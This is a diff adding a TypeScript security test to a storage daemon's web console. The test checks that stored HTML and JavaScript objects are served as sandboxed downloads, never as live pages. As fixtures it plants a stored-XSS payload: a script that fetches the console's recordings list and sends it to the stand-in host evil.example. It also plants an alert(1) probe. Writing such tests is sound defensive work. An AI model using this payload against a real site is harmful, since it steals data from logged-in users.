@@ -397,3 +397,36 @@ describe('tokens and key changes', () => {
     }
   });
 });
+
+describe('evidence bytes in the console', () => {
+  test('are never served as a page: a stored text/html or text/javascript object downloads, in a sandbox; a clip plays as video, by its name', async () => {
+    const daemon = await TestDaemon.start();
+    try {
+      const s = await SwiftSession.open(daemon);
+      assert.equal((await s.req('PUT', '/case')).status, 201);
+      const planted: Record<string, [string, string]> = {
+        'evil.html': ['text/html', '<script src="/console/recordings/case/object?name=evil.js"></script>'],
+        'evil.js': ['text/javascript', 'fetch("/console/recordings").then((r) => r.text()).then((t) => location = "https://evil.example/?" + encodeURIComponent(t))'],
+        '20240101T000000Z_1.mkv': ['text/html', '<script>alert(1)</script>'],
+      };
+      for (const [name, [type, body]] of Object.entries(planted)) assert.equal((await s.req('PUT', `/case/${name}`, { 'Content-Type': type }, body)).status, 201);
+      const login = await fetch(`${daemon.base}/console/login`, { method: 'POST', redirect: 'manual', headers: { Origin: daemon.base, 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ user: TEST_USERS.reader.user, key: TEST_USERS.reader.key }) });
+      const cookie = login.headers.get('set-cookie')!.split(';')[0]!;
+      const get = (name: string) => fetch(`${daemon.base}/console/recordings/case/object?name=${encodeURIComponent(name)}`, { headers: { Cookie: cookie } });
+      for (const name of ['evil.html', 'evil.js']) {
+        const res = await get(name);
+        assert.equal(res.status, 200);
+        assert.equal(res.headers.get('content-type'), 'application/octet-stream', `${name}: never its stored type`);
+        assert.match(res.headers.get('content-disposition')!, /^attachment;/);
+        assert.match(res.headers.get('content-security-policy')!, /^sandbox;/);
+        assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
+      }
+      const clip = await get('20240101T000000Z_1.mkv');
+      assert.equal(clip.headers.get('content-type'), 'video/x-matroska');
+      assert.match(clip.headers.get('content-disposition')!, /^inline;/);
+      assert.match(clip.headers.get('content-security-policy')!, /^sandbox;/);
+    } finally {
+      await daemon.cleanup();
+    }
+  });
+});
